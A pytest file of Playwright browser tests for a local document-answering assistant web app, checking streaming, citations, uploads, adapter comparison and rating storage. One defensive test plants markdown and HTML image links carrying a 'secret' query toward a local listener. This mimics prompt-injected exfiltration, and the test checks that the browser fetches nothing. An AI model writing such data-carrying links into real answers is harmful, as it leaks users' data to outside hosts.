"""The web app in a real browser: `assistant ui` serving on 127.0.0.1, Debian's Chromium driven by Playwright,
the real index and the real Gemma. Screenshots (and the time to first token seen in the browser) are saved
under test-artifacts/ui/ for a person to look at."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from assistant.core.results import AnswerResult, Citation, Grade, Route
from tests.browser import ARTIFACTS, opened_page, wait_until_up
from tests.conftest import BIN, home_sharing
from tests.servers import assistant_server, free_port
from ui.transcripts import Transcripts

ANSWER_TIMEOUT_S = 300


@pytest.fixture(scope="module")
def browser_home(tmp_path_factory: pytest.TempPathFactory, served_home: Path) -> Path:
    """The sample corpus in an index of its own (the tests upload to it); support has an adapter, policy none."""
    home = home_sharing(tmp_path_factory.mktemp("browser") / "home", served_home, "models")
    shutil.copytree((served_home / "index").resolve(), home / "index")
    shutil.copytree(served_home / "adapters" / "support", home / "adapters" / "support")
    return home


@contextmanager
def running_app(home: Path, log_dir: Path) -> Iterator[str]:
    """`assistant ui` on ``home``, its output in ``log_dir``/streamlit.log."""
    port = free_port()
    log = (log_dir / "streamlit.log").open("w")
    server = subprocess.Popen(
        [str(BIN / "assistant"), "ui", "--port", str(port), "--home", str(home)],
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,  # its own process group: the streamlit child stops with it
    )
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until_up(f"{url}/_stcore/health", server)
        yield url
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=30)
        log.close()


@pytest.fixture(scope="module")
def app_url(browser_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with running_app(browser_home, tmp_path_factory.mktemp("server")) as url:
        yield url


@pytest.fixture
def page(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Page]:
    # Tall: the app scrolls inside its own frame, so a tall viewport shows whole answers.
    with opened_page(browser, request.node.name, height=2400, timeout_s=ANSWER_TIMEOUT_S) as opened:
        yield opened


@dataclass
class Answered:
    message: Locator  # the assistant's message, as drawn once the answer is complete
    first_token_s: float  # from pressing Enter to the first streamed token on screen
    partial_texts: int  # distinct texts seen while it streamed


def ask(page: Page, question: str, streaming_shot: str | None = None) -> Answered:
    main = page.get_by_test_id("stMainBlockContainer")
    finished = main.get_by_test_id("stFeedback")  # the thumbs are drawn under an answer once it is complete
    before = finished.count()
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(question)
    started = time.perf_counter()
    box.press("Enter")
    first_token_s, partials = None, set()
    deadline = started + ANSWER_TIMEOUT_S
    while finished.count() == before:
        assert time.perf_counter() < deadline, f"no answer to {question!r}"
        # read in one go, without waiting: the streaming text is replaced when the answer is complete
        streaming = main.get_by_test_id("stChatMessageContent").evaluate_all(
            "contents => contents.map(c => c.innerText).filter(text => text.includes('▌'))"
        )
        if streaming:
            first_token_s = first_token_s or time.perf_counter() - started
            partials.add(streaming[-1])
            if streaming_shot and len(partials) == 2:  # mid-answer, the cursor showing
                page.screenshot(path=ARTIFACTS / f"{streaming_shot}.png")
        time.sleep(0.05)
    assert first_token_s is not None, "the answer appeared without streaming"
    message = main.get_by_test_id("stChatMessage").filter(has=page.get_by_test_id("stChatMessageAvatarAssistant"))
    _record_first_token(question, first_token_s)
    return Answered(message.nth(before), round(first_token_s, 2), len(partials))


def _record_first_token(question: str, seconds: float) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with (ARTIFACTS / "first_token.jsonl").open("a") as out:
        out.write(json.dumps({"question": question, "first_token_s": round(seconds, 2)}) + "\n")


def snapshot(locator: Locator, name: str) -> None:
    """A picture of one element, whole: the page scrolls inside the app, so a page screenshot may cut it."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    locator.screenshot(path=ARTIFACTS / f"{name}.png")


def open_source(message: Locator, source: str) -> str:
    """Expand the message's citation of ``source``; the passage text it shows."""
    expander = message.get_by_test_id("stExpander").filter(has_text=source).first
    expander.locator("summary").click()
    details = expander.get_by_test_id("stExpanderDetails")
    expect(details).to_be_visible()
    return details.inner_text()


def test_an_answer_streams_and_its_citation_opens_on_the_passage(page: Page, app_url: str) -> None:
    page.goto(app_url)  # the chat is the default page, at the root
    answered = ask(page, "How many days are invoices kept?", streaming_shot="answer-while-streaming")
    assert answered.partial_texts >= 3  # tokens arrived one after another, not as one block
    badge = answered.message.inner_text()
    assert "policy" in badge and "base model" in badge and "route confidence" in badge
    passage = open_source(answered.message, "data-retention.html")
    assert "invoice" in passage.lower() and len(passage) > 80
    snapshot(answered.message, "answer-with-open-citation")


def test_an_uploaded_document_is_answered_from_and_cited(page: Page, app_url: str, tmp_path: Path) -> None:
    document = tmp_path / "visitor-badges.md"
    document.write_text(
        "# Visitor badges\n\nEvery visitor collects a paper badge from the front desk on arrival. Visitor "
        "badges are collected back at the front desk before 6 pm, and a lost visitor badge costs its host "
        "a 25 euro replacement fee.\n"
    )
    page.goto(f"{app_url}/documents")
    # The file goes to the server in a request of its own; a submit sent before that ends submits no file.
    with page.expect_response(lambda response: "/_stcore/upload_file/" in response.url and response.ok):
        page.locator("input[type=file]").set_input_files(document)
    page.get_by_role("button", name="Add to the index").first.click()
    expect(page.get_by_test_id("stAlertContentSuccess")).to_contain_text("1 added", timeout=ANSWER_TIMEOUT_S * 1000)
    expect(page.get_by_test_id("stDataFrame").last).to_be_visible()

    page.goto(app_url)  # the chat is the default page, at the root
    answered = ask(page, "What does a lost visitor badge cost?")
    assert "visitor-badges.md" in answered.message.inner_text()
    assert "25 euro" in open_source(answered.message, "visitor-badges.md")
    snapshot(answered.message, "answer-from-uploaded-document")


def test_compare_shows_the_adapter_and_the_base_model_side_by_side(page: Page, app_url: str) -> None:
    page.goto(app_url)  # the chat is the default page, at the root
    page.get_by_text("Compare with the base model").click()
    answered = ask(page, "How do I factory reset the router?")
    columns = answered.message.get_by_test_id("stColumn")
    expect(columns).to_have_count(2)
    expect(columns.first).to_contain_text("With adapter support@1")
    expect(columns.last).to_contain_text("Base model")
    for column in (columns.first, columns.last):
        assert column.get_by_test_id("stExpander").count() >= 1  # each answer with its own sources
    adapted, base = (c.get_by_test_id("stMarkdownContainer").nth(1).inner_text() for c in (columns.first, columns.last))
    assert adapted and base and adapted != base
    snapshot(answered.message, "compare-adapter-and-base")


def test_an_earlier_turns_sources_stay_after_a_second_question(page: Page, app_url: str, browser_home: Path) -> None:
    page.goto(app_url)  # the chat is the default page, at the root
    first = ask(page, "Can I accept a gift card from a supplier?")
    ask(page, "How many days of remote work are allowed per week?")
    earlier = first.message
    passage = open_source(earlier, "gifts-and-hospitality.md")
    assert "gift" in passage.lower()
    snapshot(page.get_by_test_id("stMainBlockContainer"), "two-turns-earlier-sources-open")
    earlier.get_by_test_id("stFeedbackButton").first.click()  # thumbs up on the first turn
    thread = page.url.split("thread=")[1]
    deadline = time.monotonic() + 30
    while not Transcripts(browser_home / "ui.sqlite").rated():
        assert time.monotonic() < deadline, "the rating was not stored"
        time.sleep(0.2)
    (rated,) = Transcripts(browser_home / "ui.sqlite").rated()
    assert (rated.thread, rated.position, rated.rating) == (thread, 0, "up")


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1 that records every path asked of it: where a planted link would send data."""
    asked: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()


def test_planted_markdown_in_an_answer_and_its_passage_fetches_nothing(
    page: Page, app_url: str, browser_home: Path, listener: tuple[str, list[str]]
) -> None:
    """A document can make the model write an image link that carries data out; shown in Chromium, neither the
    answer nor the passage may make the browser fetch it, and math and HTML stay text."""
    url, asked = listener
    planted = (
        f'Ask your manager first [1]. ![status]({url}/answer-image?q=secret) <img src="{url}/answer-html.png"> '
        f"$x^2$ [details]({url}/answer-link)"
    )
    passage = f"Meals are capped at 60 euros. ![logo]({url}/passage-image.png)\n<img src={url}/passage-html.png>"
    citation = Citation(
        n=1, chunk_id="c1", domain="policy", source="travel.md", title="Travel", text=passage, score=0.8
    )
    result = AnswerResult(
        question="Can I expense a team dinner?",
        domain="policy",
        route=Route(domain="policy", confidence=0.9, reason="planted"),
        grade=Grade(covered=True, best_score=0.8, threshold=0.3),
        citations=[citation],
        timings_ms={"total": 1.0},
        adapter=None,
        answer=planted,
        cited=True,
        refused=False,
        dropped_citations=0,
    )
    Transcripts(browser_home / "ui.sqlite").add_turn("planted", None, result, None)

    page.goto(f"{app_url}/?thread=planted")
    message = page.get_by_test_id("stChatMessage").last
    expect(message).to_contain_text("Ask your manager first")
    shown = open_source(message, "travel.md")
    assert f"logo ({url}/passage-image.png)" in shown and "<img src=" in shown
    answer = message.get_by_test_id("stMarkdownContainer").first.inner_text()
    assert f"status ({url}/answer-image?q=secret)" in answer and "$x^2$" in answer and "<img src=" in answer
    snapshot(message, "planted-markdown-shown-as-text")

    citation_link = message.locator('a[href^="#source-"]')
    expect(citation_link).to_have_count(1)  # [1] links to its source; the planted link is text
    anchor = citation_link.get_attribute("href")
    assert anchor and page.locator(anchor).count() == 1
    page.wait_for_timeout(2000)  # time for any fetch the page would make
    assert asked == [], f"the browser fetched {asked}"


def test_the_running_app_answers_from_a_document_the_cli_just_ingested(
    page: Page, app_url: str, browser_home: Path, tmp_path: Path
) -> None:
    document = tmp_path / "bicycle-cage.md"
    document.write_text(
        "# Bicycle cage\n\nStaff bicycles are kept in the locked cage by the east door. The cage code changes "
        "every Monday and is posted on the intranet's facilities page.\n"
    )
    added = subprocess.run(
        [str(BIN / "ingest"), str(document), "-d", "policy", "--home", str(browser_home)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert added.returncode == 0, added.stderr
    page.goto(app_url)  # the app has run all along; nothing restarts it
    answered = ask(page, "Where are staff bicycles kept?")
    assert "east door" in open_source(answered.message, "bicycle-cage.md")


def test_the_app_asks_a_running_server_when_the_config_names_one(
    page: Page, browser_home: Path, tmp_path: Path
) -> None:
    """The app's own data home holds no index: every answer, and the domains it offers, come from the server."""
    app_home = home_sharing(tmp_path / "app-home", browser_home, "models")
    with assistant_server(browser_home) as server:
        (app_home / "config.toml").write_text(f'[client]\nurl = "{server}/v1"\n')
        with running_app(app_home, tmp_path) as app:
            page.goto(app)
            answered = ask(page, "Can I accept a gift card from a supplier?")
            assert "gift" in open_source(answered.message, "gifts-and-hospitality.md").lower()
            follow_up = ask(page, "What is the most it may be worth?")
            assert follow_up.message.get_by_text("gifts-and-hospitality.md").count(), "asked as the next turn"
            assert httpx.get(f"{server}/health").json()["status"] == "ok"
    assert not (app_home / "index").exists(), "the app opened no index of its own: the server answered"
